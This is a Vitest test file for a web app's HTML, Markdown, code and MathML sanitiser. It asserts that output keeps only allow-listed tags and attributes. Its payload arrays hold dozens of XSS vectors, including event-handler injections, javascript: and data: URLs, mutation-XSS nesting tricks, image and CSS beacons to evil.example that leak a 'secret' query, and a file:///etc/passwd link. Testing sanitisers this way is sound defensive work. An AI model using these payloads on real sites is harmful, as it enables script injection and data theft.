// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { Blocks } from "./blocks";
import { sanitise, sanitiseCode, sanitiseMaths } from "./sanitise";

const SAFE_TAGS = /^(A|B|BLOCKQUOTE|BR|CODE|DEL|DETAILS|EM|H[3-6]|HR|I|INS|KBD|LI|MARK|OL|P|PRE|S|SMALL|STRONG|SUB|SUMMARY|SUP|TABLE|TBODY|TD|TH|THEAD|TR|U|UL)$/;
const SAFE_ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  align: /^(left|center|right)$/,
  class: /^(language-[\w+#.-]*|maths( display)?|task)$/,
  href: /^(https?:\/\/|mailto:)/i,
  rel: /^noopener noreferrer$/,
  start: /^\d+$/,
  target: /^_blank$/,
};

/** Return what of a fragment isn't on our own list, written down a second time. */
function strange(fragment: DocumentFragment): string[] {
  return [...fragment.querySelectorAll("*")].flatMap((element) => [
    ...(SAFE_TAGS.test(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].filter(({ name, value }) => !SAFE_ATTRIBUTES[name]?.test(value)).map(({ name, value }) => `${name}=${value}`),
  ]);
}

const PAYLOADS = [
  "<img src=x onerror=alert(1)>", "<img src=http://evil.example/?q=secret>", "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
  "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=//evil.example>",
  "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>", "<p style='background:url(//evil.example)'>x</p>",
  "<a href=javascript:alert(1)>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<a href=//evil.example>x</a>", "<a href=/fireside/v1/stop>x</a>", "<a href=vbscript:x>x</a>", "<a href=blob:x>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=https://e.example target=_self rel=opener>x</a>",
  "<a id=location name=document href=https://e.example>x</a>", "<p id=page class='shell wide'>x</p>", "<p class=skip>x</p>", "<p data-x=1 aria-hidden=true tabindex=0 role=alert contenteditable dir=rtl>x</p>",
  "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>", "<input autofocus onfocus=alert(1)>", "<textarea>x</textarea>", "<select><option>x</select>",
  "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<div onpointerrawupdate=alert(1)>x</div>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<table><td background=//evil.example>x</td></table>", "<p><svg><foreignObject><p><img src=x onerror=alert(1)></foreignObject></svg></p>", "<xmp><img src=x onerror=alert(1)></xmp>", "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<p is=x-y slot=z>x</p>", "<custom-element onclick=alert(1)>x</custom-element>",
];
const MARKDOWN = [
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:alert(1))", "[x](/fireside/v1/stop)",
  "[x](//evil.example)", "[x](file:///etc/passwd)", "<javascript:alert(1)>", "![x](http://evil.example/?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![\"onerror=\"alert(1)](x)", "[x](https://e.example \"a\" onclick=\"alert(1)\")",
  "[x]: javascript:alert(1)\n\n[x]", "`<img src=x onerror=alert(1)>`", "```html\n<img src=x onerror=alert(1)>\n```", "```\"><img/src/onerror=alert(1)>\nx\n```", "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "$<img src=x onerror=alert(1)>$", "$$\\href{javascript:alert(1)}{x}$$", "[<img src=x onerror=alert(1)>](https://e.example)", "<b onclick=alert(1)>x</b>", "<b\n>x</b><i/onclick=alert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;", "\\<img src=x onerror=alert(1)\\>", "**<script>**alert(1)**</script>**",
];

function fromMarkdown(text: string): DocumentFragment {
  const all = document.createDocumentFragment();
  for (const block of new Blocks().of(text, false)) if (block.kind === "html") all.append(sanitise(block.html));
  return all;
}

describe("whatever is shown", () => {
  it.each(PAYLOADS)("has nothing that could act in %j", (payload) => {
    expect(strange(sanitise(payload))).toEqual([]);
    expect(strange(fromMarkdown(payload))).toEqual([]);
    expect(strange(fromMarkdown(`words ${payload} words`))).toEqual([]);
  });

  it.each(MARKDOWN)("has nothing that could act in the Markdown %j", (payload) => {
    expect(strange(fromMarkdown(payload))).toEqual([]);
  });

  it("says what was written instead of obeying it", () => {
    expect(fromMarkdown("<img src=x onerror=alert(1)>").textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("leads elsewhere only in the open, and tells nobody from where", () => {
    const link = fromMarkdown("[a](https://example.org/x)").querySelector("a");
    expect(link?.outerHTML).toBe('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">a</a>');
  });

  it("shows a picture from elsewhere as a link to it", () => {
    const picture = fromMarkdown("![a cat](https://example.org/cat.png?q=secret)");
    expect(picture.querySelector("img")).toBeNull();
    expect(picture.querySelector("a")?.textContent).toBe("a cat");
  });

  it("keeps the links that lead to people", () => {
    expect(fromMarkdown("<me@example.org>").querySelector("a")?.getAttribute("href")).toBe("mailto:me@example.org");
  });
});

describe("code", () => {
  it("has colours and nothing else", () => {
    const code = sanitiseCode('<span class="hljs-title function_">f</span><span class="skip">x</span><img src=x onerror=alert(1)><a href=https://e.example>y</a>');
    const box = document.createElement("code");
    box.append(code);
    expect(box.innerHTML).toBe('<span class="hljs-title function_">f</span><span>x</span>y');
  });
});

describe("formulas", () => {
  const made = (html: string) => {
    const box = document.createElement("p");
    box.append(sanitiseMaths(html));
    return box.innerHTML;
  };

  it("are MathML without styles and links", () => {
    expect(made('<span class="katex"><math xmlns="http://www.w3.org/1998/Math/MathML"><mrow href="javascript:alert(1)" style="color:red"><mi mathcolor="red">x</mi></mrow></math></span>')).toBe(
      '<math><mrow><mi mathcolor="red">x</mi></mrow></math>'.replace("<math>", made('<math xmlns="http://www.w3.org/1998/Math/MathML"></math>').replace("</math>", "")),
    );
  });

  it.each(["<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>"])(
    "hold nothing that could act: %j",
    (html) => {
      expect(made(html)).not.toMatch(/<(?:img|style|maction|annotation-xml)|href|onerror=/i);
    },
  );
});
